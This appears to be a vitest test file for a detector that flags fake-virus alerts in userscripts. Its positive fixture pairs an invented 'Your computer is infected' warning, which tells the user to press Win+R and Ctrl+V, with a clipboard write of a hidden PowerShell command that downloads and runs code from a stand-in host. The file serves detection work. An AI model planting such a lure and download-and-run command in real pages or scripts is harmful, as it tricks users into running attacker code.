import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { fakeAlert } from "./fake-alert.ts";

describe("fake-alert", () => {
	test("finds an invented warning and the command that comes with it", () => {
		const body = [
			`alert("Your computer is infected. Press Win+R, then Ctrl+V.")`,
			`navigator.clipboard.writeText("powershell -w hidden iwr https://c.stranger.test/a | iex")`,
		].join("\n");
		expect(findIn(fakeAlert, userscript(["match *://*/*"], body))).toEqual(["medium 5", "high 6"]);
	});

	test.each([
		["a note of a virus scanner's log", `document.title="0 of 12 files had a virus"`],
		["a copied command without a source", `navigator.clipboard.writeText("git status")`],
		["a reminder", `alert("Time for a break")`],
	])("leaves alone %s", (_title, body) => {
		expect(findIn(fakeAlert, userscript(["match *://*/*"], body))).toEqual([]);
	});
});
